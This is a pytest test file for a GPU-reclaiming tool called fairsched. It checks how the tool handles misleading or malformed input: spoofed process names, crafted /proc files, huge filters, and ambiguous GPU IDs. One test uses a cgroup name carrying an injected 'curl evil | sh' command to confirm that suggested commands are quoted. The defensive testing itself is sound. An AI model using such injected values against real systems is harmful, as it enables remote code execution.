# SPDX-License-Identifier: Apache-2.0
"""Names, numbers and moments that are meant to mislead whoever takes a GPU back, or that are merely odd."""

from __future__ import annotations

import errno
import os
import shlex
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any, cast

import click
import pytest
from click.testing import CliRunner

from fairsched.cgroup.names import Names
from fairsched.cgroup.path import Mount
from fairsched.cli import cli
from fairsched.cli.duration import seconds_of
from fairsched.cli.ps import render_tree
from fairsched.errors import FairschedError
from fairsched.gpu.state import ResetFacts
from fairsched.reclaim.audit import Audit
from fairsched.reclaim.chain import Head
from fairsched.reclaim.end import Ending, Fate
from fairsched.reclaim.expression import FilterError, parse
from fairsched.reclaim.facts import read_facts
from fairsched.reclaim.holder import GpuView, Listing
from fairsched.reclaim.listing import NoSuchGpu, gpus_called
from fairsched.reclaim.mcp.arguments import PlanArguments
from fairsched.reclaim.pauses import pauses_of
from fairsched.reclaim.pin import Pin
from fairsched.reclaim.plan import Target, make_plan, starter_of
from fairsched.reclaim.reset import obstacles
from fairsched.reclaim.session import Own, Session, Wish
from fairsched.reclaim.witness import tell
from tests.unit.reclaim.made import GPU, VIEW, holder, listing, process, table_of


@pytest.fixture
def child() -> Iterator[subprocess.Popen[bytes]]:
    with subprocess.Popen(["sleep", "300"]) as sleeping:
        yield sleeping
        sleeping.kill()


# what is typed


@pytest.mark.parametrize(
    "value", ["(" * 20_000, "(" * 3000 + ")" * 3000, "a{99999999999}", "[", "x" * 200 + "("]
)
def test_an_expression_that_python_cannot_take_is_a_wrong_one(value: str) -> None:
    with pytest.raises(FilterError) as caught:
        parse(f"name~{value}")
    assert len(str(caught.value)) < 300


def test_a_huge_filter_is_read_and_holds_what_it_says() -> None:
    one = holder(process(7))
    assert parse("vram>1G " * 15_000)(one)
    assert not parse("vram>1G " * 15_000 + "vram>3G")(one)
    assert parse(f"pid={','.join(map(str, range(20_000)))}")(one)


def test_the_beginning_of_several_gpus_names_none() -> None:
    """An empty variable after ``--gpu GPU-`` must not take all of them."""
    gpus = [GpuView("GPU-aaaa", "0"), GpuView("GPU-aabb", "1"), GpuView("GPU-aaaa1", "2")]
    for name in ("GPU-", "G", "GPU-aa"):
        with pytest.raises(NoSuchGpu, match="the beginning of 3 GPUs"):
            gpus_called(name, gpus, is_one=True)
    assert gpus_called("GPU-aab", gpus, is_one=True) == {"GPU-aabb"}
    assert gpus_called("GPU-aaaa", gpus, is_one=True) == {"GPU-aaaa"}, "a whole one is no beginning"
    assert len(gpus_called("GPU-", gpus)) == 3, "to look at them"
    with pytest.raises(NoSuchGpu):
        gpus_called("", gpus)


def test_an_assistant_names_one_gpu() -> None:
    now = Listing((), (GpuView("GPU-aaaa", "0"), GpuView("GPU-aabb", "1")), {})
    with pytest.raises(NoSuchGpu, match="the beginning of 2 GPUs"):
        PlanArguments(gpu="GPU-").wish(now)
    assert PlanArguments(gpu="1").wish(now).gpu == "GPU-aabb"


@pytest.mark.parametrize("text", ["0s", "9" * 400 + "d", "101w" * 2, "999999w", "nan", "-5s", "inf"])
def test_a_time_that_is_none_or_never_ends_is_refused(text: str) -> None:
    with pytest.raises(click.BadParameter):
        seconds_of(text)
    assert seconds_of("7d") == 604800


@pytest.mark.parametrize("head", ["9" * 5000 + ":" + "0" * 64, "1:0", "\u0663:" + "0" * 64])
def test_a_head_that_is_none_is_wrong_usage(head: str, tmp_path: Path) -> None:
    (tmp_path / "c.yaml").write_text("{}\n")
    done = CliRunner().invoke(cli, ["audit", "verify", "-c", str(tmp_path / "c.yaml"), "--head", head])
    assert done.exit_code == 2 and "is not SEQ:HASH" in " ".join(done.output.split())


# what tenants name


def test_names_in_commands_to_be_typed_are_quoted(tmp_path: Path) -> None:
    evil = "a; curl evil | sh #"
    frozen = tmp_path / evil
    frozen.mkdir()
    (frozen / "cgroup.freeze").write_text("1\n")
    facts = process(7, cgroup=f"/{evil}")
    (pause,) = pauses_of([facts], Mount(str(tmp_path), "/"), tmp_path, Names()).values()
    typed = shlex.split(pause.text.partition("to thaw it: ")[2])
    assert typed == ["echo", "0", ">", f"{frozen}/cgroup.freeze"]
    unit = starter_of("/system.slice/web\\x2dfront.service")
    assert unit is not None and "systemctl stop 'web\\x2dfront.service'" in unit


def test_a_pause_in_the_freezer_of_v1_keeps_even_a_kill(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "job").mkdir()
    (tmp_path / "job" / "freezer.state").write_text("FROZEN\n")
    monkeypatch.setattr("fairsched.reclaim.pauses.find_v1_mount", lambda _name: Mount(str(tmp_path), "/"))
    monkeypatch.setattr("fairsched.reclaim.pauses.cgroup_path_of", lambda _pid, _where: "/job")
    (pause,) = pauses_of([process(7)], None, tmp_path, Names()).values()
    assert pause.keeps_kill and not pause.is_ours
    assert pause.text.endswith(f"echo THAWED > {tmp_path}/job/freezer.state")


def test_nobody_hides_behind_mps_clients_of_another_user() -> None:
    """The program of an MPS server is known by its name, which anybody may give to his."""
    fake, theirs = process(10, uid=1001), process(20, uid=1002)
    holders = [holder(fake, mps="server"), holder(theirs, mps="client")]
    plan = make_plan(holders[:1], listing(holders, table_of(fake, theirs)), {})
    assert [one.pid for one in plan.targets] == [10]
    for uid in (1002, 0):
        own = replace(fake, uid=uid)
        holders[0] = holder(own, mps="server")
        plan = make_plan(holders[:1], listing(holders, table_of(own, theirs)), {})
        assert not plan.targets and "would end with it stay" in plan.left[0].why


@pytest.mark.parametrize(
    ("about", "is_in_the_way"),
    [
        ({}, False),
        ({"uid": 1001}, True),
        ({"namespace_pids": (77, 1)}, True),
        ({"name": "nvidia-persist"}, True),
    ],
)
def test_persistenced_keeps_no_reset_away_and_nobody_passes_for_it(
    about: dict[str, Any], is_in_the_way: bool
) -> None:
    """The kernel cuts its name to 15 letters."""
    daemon = process(77, **{"name": "nvidia-persiste", "uid": 0, **about})
    view = replace(VIEW, openers=(77,))
    assert (
        bool(obstacles(ResetFacts(GPU, False), listing([], table_of(daemon), view), is_root=True))
        is is_in_the_way
    )


def test_a_user_of_many_groups_hides_nothing_behind_them(tmp_path: Path) -> None:
    """They stand before what tells that SIGTERM does nothing."""
    (tmp_path / "7").mkdir()
    stat = "7 (a b) c) S 1 7 7 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 99"
    status = f"Name:\tx\nTracerPid:\t0\nUid:\t5\t5\t5\t5\nGroups:\t{'65534 ' * 65536}\nNSpid:\t7\t1\n"
    (tmp_path / "7/stat").write_text(stat)
    (tmp_path / "7/status").write_text(f"{status}SigIgn:\t0000000000004000\nSigCgt:\t0\n")
    (tmp_path / "7/cmdline").write_bytes(b"x\x1b[2J\xff\n\0--y\0")
    facts = read_facts(7, proc=str(tmp_path))
    assert facts is not None
    assert (facts.namespace_pids, facts.is_deaf, facts.name) == ((7, 1), True, "a b) c")
    assert facts.command == "x?[2J\N{REPLACEMENT CHARACTER}? --y"


def test_a_circle_of_parents_is_drawn_once() -> None:
    """A pid may be given to a descendant while /proc is read."""
    table = table_of(process(10, 20), process(20, 30), process(30, 10))
    lines = render_tree([holder(table[10])], table)
    assert sorted(line.split()[1] for line in lines[1:]) == ["10", "20", "30"]


# what runs out


def test_who_cannot_be_pinned_is_not_taken_for_gone(
    child: subprocess.Popen[bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    facts = read_facts(child.pid)
    assert facts is not None

    def none_left(_pid: int) -> int:
        raise OSError(errno.EMFILE, os.strerror(errno.EMFILE))

    pin = Pin.open(child.pid, facts.start_ticks)
    assert pin is not None
    monkeypatch.setattr(os, "pidfd_open", none_left)
    with pytest.raises(FairschedError, match="cannot be pinned: Too many open files"):
        Pin.open(child.pid, facts.start_ticks)
    # one that is forked while its parent is being ended is told and left; the parent is ended all the same
    said, mine = list[str](), replace(facts, cgroup="/a")
    forked = process(4_000_000, child.pid, cgroup="/a")
    monkeypatch.setattr(
        "fairsched.reclaim.end.read_table", lambda _mount: {child.pid: mine, forked.pid: forked}
    )
    ending = Ending(
        [Target(mine, "")],
        {child.pid: pin},
        is_forced=True,
        mount=None,
        pauses=lambda _facts: {},
        protected={},
        tell=said.append,
    )
    (ended,) = ending.run(5.0)
    ending.close()
    assert ended.fate is Fate.ENDED
    assert "process 4000000 cannot be pinned: Too many open files; it is left" in said


class _Nvml:
    def close(self) -> None:
        return None

    def load(self, _slot: int) -> None:
        return None


class _Lister:
    """One process on one GPU, as long as it lives."""

    mount = None
    nvml = _Nvml()

    def __init__(self, pid: int) -> None:
        self._pid = pid

    def look(self, *, has_openers: bool = True) -> Any:
        facts = read_facts(self._pid)
        living = [] if facts is None or facts.is_zombie else [facts]
        return listing([holder(one) for one in living], {one.pid: one for one in living})


class _FullLater(Audit):
    """There is room for one entry."""

    def write(self, event: str, entry: Mapping[str, Any], summary: str, at_s: float | None = None) -> Head:
        if event == "outcome":
            self._append = _no_space  # type: ignore[method-assign]
        return super().write(event, entry, summary, at_s)


def _no_space(_entry: Mapping[str, Any]) -> Head:
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def test_what_was_done_is_not_said_to_be_undone_because_its_outcome_cannot_be_written(
    child: subprocess.Popen[bytes], tmp_path: Path
) -> None:
    session = Session(cast(Any, _Lister(child.pid)), Own(run_dir=tmp_path))
    wish = Wish(lambda now: list(now.holders), "gpu=0")
    prepared = session.prepare(wish)
    audit = _FullLater(tmp_path / "audit", tell=lambda *_: None)
    outcome = session.act(prepared, wish, audit, reason=None, is_forced=False, grace_s=10.0)
    prepared.close()
    assert [one.fate for one in outcome.ended] == [Fate.ENDED]
    assert child.wait() == -signal.SIGTERM
    assert not outcome.is_whole, "somebody has to look"
    (warning,) = outcome.warnings
    assert warning == (
        "this outcome could not be written into the audit log (No space left on device): its entry 1 has none"
    )


def test_a_long_wish_does_not_keep_the_journal_from_its_copy(tmp_path: Path) -> None:
    """A datagram that is too long reaches nobody."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as journal:
        journal.bind(str(tmp_path / "socket"))
        asked = "asked=" + "\x1b" * 10**6
        assert tell(asked, Head(3, "ab" * 32), str(tmp_path / "socket"), str(tmp_path / "none")) == "journal"
        got = journal.recv(1 << 20)
    assert b"FAIRSCHED_AUDIT_SEQ=3\n" in got and got.count(b"\n") == 6


AS_NOBODY = """
import os, sys
from pathlib import Path
from fairsched.cgroup.names import Names
from fairsched.cgroup.path import Mount
from fairsched.reclaim.pauses import pauses_of, release_dead
from fairsched.reclaim.facts import read_facts
me = read_facts(os.getpid())
os.setgroups([]); os.setgid(65534); os.setuid(65534)
run = Path(sys.argv[1])
print(pauses_of([me], None, run, Names()), release_dead(run, Mount("/nowhere", "/"), ["/a"]))
"""


def test_who_may_not_read_the_journal_of_holds_is_told_of_none(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root")
    (tmp_path / "run" / "holds").mkdir(parents=True)
    (tmp_path / "run").chmod(0o700)
    command = [sys.executable, "-c", AS_NOBODY, str(tmp_path / "run")]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout) == (0, "{} []\n"), done.stderr


def test_a_journal_that_cannot_be_read_keeps_nobody_from_being_ended(
    child: subprocess.Popen[bytes], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refused(*_: object) -> list[Any]:
        raise FairschedError("the journal of holds: Permission denied")

    monkeypatch.setattr("fairsched.reclaim.session.release_dead", refused)
    session = Session(cast(Any, _Lister(child.pid)), Own(run_dir=tmp_path))
    prepared = session.prepare(wish := Wish(lambda now: list(now.holders), "gpu=0"))
    audit = Audit(tmp_path / "audit", tell=lambda *_: None)
    outcome = session.act(prepared, wish, audit, reason=None, is_forced=False, grace_s=10.0)
    prepared.close()
    assert [one.fate for one in outcome.ended] == [Fate.ENDED] and outcome.is_whole
    assert outcome.warnings == (
        "what a dead daemon holds is not thawed: the journal of holds: Permission denied",
    )
